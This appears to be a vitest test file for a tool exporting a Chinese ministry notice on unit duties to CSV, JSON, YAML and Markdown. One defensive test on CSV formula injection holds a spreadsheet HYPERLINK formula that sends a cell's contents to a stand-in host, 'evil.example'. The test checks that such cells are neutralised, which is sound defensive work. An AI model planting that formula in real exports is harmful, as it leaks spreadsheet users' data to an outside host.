import { Ajv } from 'ajv';
import { parse as parseCsv } from 'csv-parse/sync';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Corpus, Duty } from '../../src/corpus/model.js';
import { shortIdNamer } from '../../src/corpus/short-ids.js';
import { dutyTable, groupByDocument } from '../../src/render/corpus-tables.js';
import { renderCorpusYaml } from '../../src/render/corpus-yaml.js';
import { neutraliseFormula, renderCsv } from '../../src/render/csv.js';
import { exportJson, exportLines } from '../../src/render/json-shapes.js';
import { escapeMarkdown, renderCorpusMarkdown, renderMarkdownTable } from '../../src/render/markdown.js';
import { bundledCorpus, corpusFromYaml } from '../helpers/corpus.js';

let corpus: Corpus;
beforeAll(async () => {
  corpus = await bundledCorpus();
});

/** What identifies a duty and what it says: compared across a round trip. */
function dutyFacts(d: Duty) {
  return { id: d.id, label: d.label, numbering: d.numbering, depth: d.depth, parent: d.parent?.id, section: d.section?.title, text: d.text, notes: d.notes };
}

describe('csv', () => {
  it('reads back with a CSV parser as every duty of the corpus, one a row', () => {
    const csv = renderCsv(dutyTable(corpus.units));
    expect(csv.startsWith('"id","document"')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    const records = parseCsv(csv, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(60);
    records.forEach((r, i) => {
      const d = corpus.duties[i]!;
      expect(r).toEqual({
        id: d.id,
        document: 'sbf-2003-9',
        document_number: '商办发〔2003〕9号',
        unit: d.unit.id,
        unit_name: d.unit.name,
        section: d.section ? `${d.section.label}${d.section.title}` : '',
        label: d.label ?? '',
        numbering: d.numbering,
        depth: String(d.depth),
        parent: d.parent?.id ?? '',
        text: d.text,
        notes: d.notes.join('\n'),
      });
    });
  });

  it('keeps commas, quotes and line breaks inside their field (RFC 4180)', () => {
    const csv = renderCsv({ columns: [{ header: 'a' }, { header: 'b' }], rows: [['x,"y"\r\nz', 1]] });
    expect(csv).toBe('"a","b"\r\n"x,""y""\r\nz","1"\r\n');
    expect(parseCsv(csv)).toEqual([['a', 'b'], ['x,"y"\r\nz', '1']]);
  });

  it('starts with a BOM only when asked', () => {
    expect(renderCsv(dutyTable(corpus.units), { bom: true }).charCodeAt(0)).toBe(0xfeff);
    expect(renderCsv(dutyTable(corpus.units)).charCodeAt(0)).not.toBe(0xfeff);
    expect(parseCsv(renderCsv(dutyTable(corpus.units), { bom: true }), { bom: true, columns: true })).toHaveLength(60);
  });

  it('neutralises cells a spreadsheet would take for a formula: = + - @ tab CR (OWASP)', () => {
    const dangerous = ['=HYPERLINK("http://evil.example/?d="&A1,"点击")', '+1+2', '-3+4', '@SUM(1,2)', '\t=1+1', '\r=1+1'];
    const c = corpusFromYaml(`mandates: 1
id: inj
title: 注入测试
units:
  - id: u1
    name: 测试中心
    duties:
${dangerous.map((t) => `      - text: ${JSON.stringify(t)}`).join('\n')}
      - text: 普通职能，=不在开头。
`);
    const records = parseCsv(renderCsv(dutyTable(c.units)), { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.text)).toEqual([...dangerous.map((t) => `'${t}`), '普通职能，=不在开头。']);
    expect(neutraliseFormula('-')).toBe("'-");
    expect(neutraliseFormula('许可证')).toBe('许可证');
  });
});

describe('json and jsonl', () => {
  const schema = JSON.parse(readFileSync(new URL('../../schema/export.schema.json', import.meta.url), 'utf8'));
  const ajv = new Ajv({ allErrors: true, strict: false });
  const validateJson = ajv.compile(schema);
  const validateLine = ajv.compile({ $ref: `${schema.$id}#/definitions/ExportLineJson` });

  it('the json export matches its schema and holds every duty', () => {
    const json = JSON.parse(JSON.stringify(exportJson(groupByDocument(corpus.units))));
    expect(validateJson(json), JSON.stringify(validateJson.errors)).toBe(true);
    expect(json.version).toBe(1);
    expect(json.documents).toHaveLength(1);
    const doc = json.documents[0];
    expect(doc).toMatchObject({ id: 'sbf-2003-9', number: '商办发［2003］9号', date: '2003-06-26', unitCount: 6, dutyCount: 60 });
    expect(doc.body).toContain('特此通知。');
    const duties = doc.units.flatMap((u: { duties: { id: string; text: string }[] }) => u.duties);
    expect(duties.map((d: { id: string; text: string }) => [d.id, d.text])).toEqual(corpus.duties.map((d) => [d.id, d.text]));
  });

  it('jsonl is one duty a line with its unit and document, each line matching the schema', () => {
    const lines = exportLines(corpus.units).map((l) => JSON.parse(JSON.stringify(l)));
    expect(lines).toHaveLength(60);
    lines.forEach((line, i) => {
      expect(validateLine(line), JSON.stringify(validateLine.errors)).toBe(true);
      const d = corpus.duties[i]!;
      expect(line.duty.id).toBe(d.id);
      expect(line.duty.text).toBe(d.text);
      expect(line.unit).toMatchObject({ id: d.unit.id, name: d.unit.name });
      expect(line.document).toEqual({
        id: 'sbf-2003-9',
        title: d.unit.doc.title,
        number: '商办发［2003］9号',
        numberNormalized: '商办发〔2003〕9号',
        issuer: '中华人民共和国商务部',
        date: '2003-06-26',
      });
    });
  });

  it('the schema refuses what the shape does not allow', () => {
    const json = JSON.parse(JSON.stringify(exportJson(groupByDocument(corpus.units))));
    json.documents[0].units[0].duties[0].text = 3;
    expect(validateJson(json)).toBe(false);
    expect(validateLine({ version: 1, duty: {} })).toBe(false);
  });
});

describe('yaml', () => {
  it('loads back as a corpus with the same documents, units and duties (round trip), valid against the corpus schema', () => {
    const yaml = renderCorpusYaml(corpus.units, { comment: 'Exported by a test.' });
    expect(yaml.startsWith('# Exported by a test.\n')).toBe(true);
    expect(yaml).toContain('date: "2003-06-26"');
    const back = corpusFromYaml(yaml, 'exported.yaml'); // parseCorpusText validates against corpus/mandates.schema.json
    expect(back.duties).toHaveLength(60);
    expect(back.duties.map(dutyFacts)).toEqual(corpus.duties.map(dutyFacts));
    expect(back.units.map((u) => [u.id, u.name, u.externalName, u.aliases, u.heading, u.notes, u.sections.map((s) => [s.key, s.label, s.title])])).toEqual(
      corpus.units.map((u) => [u.id, u.name, u.externalName, u.aliases, u.heading, u.notes, u.sections.map((s) => [s.key, s.label, s.title])]),
    );
    const { units: _u, source: _s, ...doc } = back.documents[0]!;
    const { units: _u2, source: _s2, ...original } = corpus.documents[0]!;
    expect(doc).toEqual(original);
  });

  it('keeps explicit ids where numbering repeats or is missing, and exports only the units asked for', () => {
    const c = corpusFromYaml(`mandates: 1
id: ids
title: 编号测试
units:
  - id: a
    name: 甲中心
    duties:
      - { label: 一、, text: 第一项。 }
      - { label: 一、, id: one-again, text: 编号重复。 }
      - { text: 无编号段落。 }
      - { id: special, text: 自定编号段落。 }
      - { text: 又一段落。, notes: [一条注释] }
      - { label: 甲、, text: 无法解析的编号。 }
  - id: b
    name: 乙中心
    sections:
      - { title: 无编号节, duties: [ { label: （一）, text: 节内。 } ] }
      - { label: 二、, title: 有编号节, id: x, duties: [ { text: 段落。 } ] }
`);
    expect(c.units[0]!.duties.map((d) => d.path)).toEqual(['1', 'one-again', 'p1', 'special', 'p2', 'n6']);
    const all = corpusFromYaml(renderCorpusYaml(c.units));
    expect(all.duties.map(dutyFacts)).toEqual(c.duties.map(dutyFacts));
    const onlyB = corpusFromYaml(renderCorpusYaml([c.units[1]!]));
    expect(onlyB.units.map((u) => u.id)).toEqual(['ids/b']);
    expect(onlyB.duties.map(dutyFacts)).toEqual(c.units[1]!.duties.map(dutyFacts));
  });

  it('quotes what YAML would misread and escapes control characters', () => {
    const c = corpusFromYaml(`mandates: 1
id: odd
title: "- 列表？"
units:
  - id: a
    name: "@单位"
    duties:
      - text: "yes"
      - text: "# 不是注释"
      - text: "控制\\u001b[31m字符"
`);
    const back = corpusFromYaml(renderCorpusYaml(c.units));
    expect(back.duties.map((d) => d.text)).toEqual(['yes', '# 不是注释', '控制\u001b[31m字符']);
    expect(back.documents[0]!.title).toBe('- 列表？');
  });
});

describe('several documents', () => {
  const two = corpusFromYaml(`mandates: 1
id: a
title: 甲通知
units:
  - { id: x, name: 甲中心, duties: [ { label: 一、, text: 甲的职能。 } ] }
---
mandates: 1
id: b
title: 乙通知
units:
  - { id: y, name: 乙中心, duties: [ { label: 一、, text: 乙的职能。 } ] }
  - { id: z, name: 丙中心, duties: [ { label: 一、, text: 丙的职能。 } ] }
`);

  it('Markdown has a heading per document, units under their own', () => {
    const md = renderCorpusMarkdown(two.units, { idOf: shortIdNamer(two) });
    expect(md.split('\n').filter((l) => /^#{1,2} /.test(l))).toEqual(['# 甲通知', '## 甲中心', '# 乙通知', '## 乙中心', '## 丙中心']);
  });

  it('json groups units by document; yaml writes one YAML document each and loads back', () => {
    const json = exportJson(groupByDocument([two.units[2]!, two.units[0]!]));
    expect(json.documents.map((d) => [d.id, d.units.map((u) => u.key)])).toEqual([['b', ['z']], ['a', ['x']]]);
    const yaml = renderCorpusYaml(two.units);
    expect(yaml.match(/^---$/gm)).toHaveLength(1);
    expect(corpusFromYaml(yaml).duties.map((d) => d.id)).toEqual(['a/x/1', 'b/y/1', 'b/z/1']);
  });
});

describe('markdown', () => {
  it('has a heading per document and unit, section headings, and every duty as a list item with its numbering', () => {
    const md = renderCorpusMarkdown(corpus.units, { idOf: shortIdNamer(corpus) });
    const lines = md.split('\n');
    expect(lines.filter((l) => l.startsWith('# '))).toEqual([`# ${corpus.documents[0]!.title}`]);
    expect(lines.filter((l) => l.startsWith('## '))).toEqual([
      '## 机关服务中心（机关服务局）', '## 外贸发展中心（外贸发展事务局）', '## 投资促进中心（投资促进事务局）',
      '## 国际经济合作事务局', '## 配额许可证事务局', '## 中国国际电子商务中心',
    ]);
    expect(lines.filter((l) => l.startsWith('### '))).toEqual(['### 一、主要职能', '### 二、其他事项']);
    const items = lines.filter((l) => /^\s*- /.test(l));
    expect(items).toHaveLength(60);
    corpus.duties.forEach((d, i) => {
      expect(items[i]).toBe(`${'  '.repeat(d.depth)}- ${d.label ?? ''}${d.text}`);
    });
    // Metadata as a short table under the document heading.
    expect(md).toContain(
      '| 文号 | 文号（原文） | 发文机关 | 日期 | 成文日期 | 主送机关 | 附件 | ID |\n| --- | --- | --- | --- | --- | --- | --- | --- |\n' +
        '| 商办发〔2003〕9号 | 商办发［2003］9号 | 中华人民共和国商务部 | 2003-06-26 | 二○○三年六月二十六日 | 本部各直属单位、各商会、协会、学会、各驻外经济商务机构 | 附件：如文 | `sbf-2003-9` |\n',
    );
    expect(md).toContain('| ID | 对外称 | 别名 | 标题 | 职能数 |\n| --- | --- | --- | --- | --- |\n| `tzcjzx` | 投资促进事务局 | 外商投资促进中心 | 投资促进中心（投资促进事务局）主要职能 | 10 |\n');
    // The body follows the document's metadata.
    expect(md).toContain('\n\n特此通知。\n\n');
    expect(md).toContain('> 注：');
    // Blocks are separated by one blank line, never more.
    expect(md).not.toMatch(/\n\n\n/);
  });

  it('--md-table: one table per unit, every duty a row', () => {
    const md = renderCorpusMarkdown(corpus.units, { idOf: shortIdNamer(corpus), tables: true });
    // One table per unit, and per section where a unit has sections (电子商务中心: 一、主要职能, 二、其他事项).
    expect(md.match(/^\| 序号 \| 职能 \| ID \| 备注 \|$/gm)).toHaveLength(7);
    expect(md).toContain('\n### 二、其他事项\n\n| 序号 |');
    const rows = md.split('\n').filter((l) => /^\| [一二三四五六七八九十]/.test(l));
    expect(rows).toHaveLength(60);
    expect(rows[2]).toBe('| 二（一） | 部机关计划生育、爱国卫生、绿化美化、安全保卫、人防、献血、防震减灾、扶贫募捐、人口普查和机关普选工作。 | jgfwzx/2.1 |  |');
    expect(md).not.toMatch(/^\s*- /m);
  });

  it('escapes what Markdown would act on, so data shows literally', () => {
    expect(escapeMarkdown('a*b_c`d[e](f)<g>|h~i&amp;$x$!j\\k')).toBe('a\\*b\\_c\\`d\\[e\\](f)\\<g\\>\\|h\\~i\\&amp;\\$x\\$\\!j\\\\k');
    expect(escapeMarkdown('# 标题')).toBe('\\# 标题');
    expect(escapeMarkdown('- 列表')).toBe('\\- 列表');
    expect(escapeMarkdown('1. 编号')).toBe('1\\. 编号');
    expect(escapeMarkdown('1.5倍')).toBe('1.5倍');
    expect(escapeMarkdown('控制\u001b[31m')).toBe('控制␛\\[31m');
    const table = renderMarkdownTable({ columns: [{ header: 'a|b' }], rows: [['x|y\nz'], [{ text: '链接', link: { url: 'https://example.org/a b' } }]] });
    expect(table).toBe('| a\\|b |\n| --- |\n| x\\|y<br>z |\n| [链接](<https://example.org/a%20b>) |\n');
  });
});
